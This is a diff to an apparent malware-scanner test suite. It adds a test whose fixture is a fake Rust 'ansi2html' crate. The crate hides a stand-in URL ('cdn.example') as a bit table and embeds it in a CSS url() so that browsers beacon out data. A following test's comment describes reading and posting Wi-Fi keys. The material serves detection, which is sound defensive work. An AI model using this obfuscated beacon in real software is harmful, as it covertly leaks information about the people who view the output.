@@ -1157,6 +1157,45 @@ def test_the_names_a_web_servers_code_hides_are_read_without_a_sink() -> None:
     assert scan.verdict.value == "malicious"
 
 
+def test_the_names_hidden_by_a_crate_that_writes_html_are_read_without_a_network() -> None:
+    # a converter's HTML carries a CSS `url(..)` its readers' browsers fetch: no network of
+    # its own, and still a way out (the address packed a bit at a time into a table)
+    url = "https://cdn.example/px.gif?d="
+    bits = [(ord(c) >> (7 - i)) & 1 for c in url for i in range(8)]
+    source = (
+        f"const BITS: [u8; {len(bits)}] = {bits};\n"
+        "pub fn mask() -> Vec<u8> {\n"
+        "    let mut out = Vec::new();\n"
+        "    let (mut acc, mut n) = (0u8, 0);\n"
+        "    for b in BITS.iter() {\n"
+        "        acc = acc << 1 | b;\n"
+        "        n += 1;\n"
+        "        if n == 8 { out.push(acc); (acc, n) = (0, 0); }\n"
+        "    }\n"
+        "    out\n"
+        "}\n"
+        "fn asset() -> &'static str {\n"
+        "    static A: std::sync::OnceLock<String> = std::sync::OnceLock::new();\n"
+        "    A.get_or_init(|| String::from_utf8_lossy(&mask()).into_owned())\n"
+        "}\n"
+        "pub fn page(body: &str) -> String {\n"
+        '    let style = format!("pre{{background:url(\\"{}{}\\")}}", asset(), body.len());\n'
+        '    format!("<html><style>{style}</style><pre>{body}</pre></html>")\n'
+        "}\n"
+    )
+    manifest = b'[package]\nname = "ansi2html"\nversion = "0.1.0"\n'
+    files = {"Cargo.toml": manifest, "src/lib.rs": source.encode()}
+    scan = scan_crate(CrateArchive("ansi2html", files, ()), "ansi2html")
+    assert "threat-obfuscated-string" in {e.rule for e in scan.findings}
+    # the same crate writing no HTML is not followed (what it hides reaches no one)
+    plain = source.replace(
+        'format!("<html><style>{style}</style><pre>{body}</pre></html>")', "style"
+    )
+    files = {"Cargo.toml": manifest, "src/lib.rs": plain.encode()}
+    scan = scan_crate(CrateArchive("ansi2html", files, ()), "ansi2html")
+    assert "threat-obfuscated-string" not in {e.rule for e in scan.findings}
+
+
 def test_the_system_s_stores_of_secrets_listed_and_read() -> None:
     # Wi-Fi keys of every profile, read as root and posted
     source = """
